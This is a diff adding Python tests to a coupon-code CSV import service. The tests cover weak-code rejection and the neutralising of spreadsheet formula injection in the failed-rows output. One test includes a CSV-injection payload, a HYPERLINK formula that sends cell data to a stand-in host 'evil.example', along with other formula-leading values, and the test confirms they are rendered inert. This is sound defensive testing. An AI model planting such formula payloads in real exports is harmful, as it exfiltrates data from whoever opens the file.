@@ -153,6 +153,52 @@ def test_a_csv_row_with_an_empty_code_cell_is_reported_malformed():
     assert failed_rows(obj) == [(3, "", "malformed")]
 
 
+def test_codes_too_easy_to_guess_fail_as_too_guessable_and_the_rest_are_imported():
+    # Given a file mixing good codes with short, all-digit, repeated and run codes
+    coupon = imported_coupon()
+    weak = ["AB12", "1234567", "123456789", "QQQQQQQQQQ", "ABCDEFGHIJ"]
+    good = ["GOOD-0001", "8301957264", "abcdefgz", "K7-X2-P9-Q4"]
+    obj = upload(coupon["coupon_id"], "\n".join([good[0], *weak, *good[1:]]).encode())
+    # When it is imported
+    assert run(obj) == "finished"
+    # Then the weak codes are in the failed-codes file as too_guessable, and only the good ones imported
+    assert failed_rows(obj) == [(line, code, "too_guessable") for line, code in enumerate(weak, start=2)]
+    job = job_of(obj)
+    assert (job["imported"], job["failed"], job["too_guessable"]) == (4, 5, 5)
+    assert sorted(pool_codes(coupon)) == sorted(good)
+    listed = call("GET", f"/coupons/{coupon['coupon_id']}/imports", claims=merchant("m1")).json["items"]
+    assert listed[0]["counts"]["too_guessable"] == 5
+
+
+def test_a_coupon_that_allows_short_codes_imports_them_and_says_so():
+    coupon = imported_coupon(codes={"allow_short_codes": True})
+    assert coupon["codes"]["allow_short_codes"] is True
+    obj = upload(coupon["coupon_id"], b"AB12\n1234567\nQQQQQQQQQQ\n")
+    assert run(obj) == "finished"
+    assert (job_of(obj)["imported"], job_of(obj)["failed"]) == (3, 0)
+    assert sorted(pool_codes(coupon)) == ["1234567", "AB12", "QQQQQQQQQQ"]
+
+
+def test_failed_code_cells_a_spreadsheet_would_run_as_formulas_are_neutralised():
+    # Given a file whose malformed or repeated lines start like spreadsheet formulas
+    coupon = imported_coupon()
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "@SUM(A1:A9)", "-2+3"]
+    lines = ["code", *(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in hostile), "GOOD-0001"]
+    lines += ["-RENEW-2024", "-RENEW-2024"]  # a valid code that starts with '-', repeated
+    obj = upload(coupon["coupon_id"], "\n".join(lines).encode())
+    assert run(obj) == "finished"
+    # Then every such cell starts with a quote, so a spreadsheet shows it as text, and each cell is quoted
+    job = job_of(obj)
+    raw = client("s3").get_object(Bucket=obj["bucket"], Key=job["failed_key"])["Body"].read().decode()
+    rows = failed_rows(obj)
+    assert rows == [
+        *((line, "'" + cell, "malformed") for line, cell in enumerate(hostile, start=2)),
+        (8, "'-RENEW-2024", "duplicate_in_file"),
+    ]
+    assert all(line.startswith('"') for line in raw.splitlines()[1:])
+    assert not any(code.startswith(("=", "+", "-", "@", "\t", "\r")) for _, code, _ in rows)
+
+
 def test_a_file_over_the_size_limit_is_rejected_from_the_event_before_it_is_read(monkeypatch):
     monkeypatch.setenv("IMPORT_MAX_BYTES", "1000")
     settings.settings.cache_clear()
